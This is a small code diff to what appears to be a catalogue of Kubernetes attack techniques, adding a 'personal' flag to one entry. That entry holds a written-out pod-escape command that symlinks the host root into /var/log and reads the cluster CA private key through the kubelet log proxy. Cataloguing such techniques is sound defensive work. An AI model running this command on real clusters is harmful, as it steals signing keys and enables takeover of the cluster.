@@ -35,4 +35,5 @@ TECHNIQUE = Technique(
     request="ln -s / /var/log/x; kubectl get --raw /api/v1/nodes/{name}/proxy/logs/x/etc/kubernetes/pki/ca.key",
     reference="https://www.aquasec.com/blog/kubernetes-security-pod-escape-log-mounts/",
     named=("nodes",),
+    personal=True,
 )
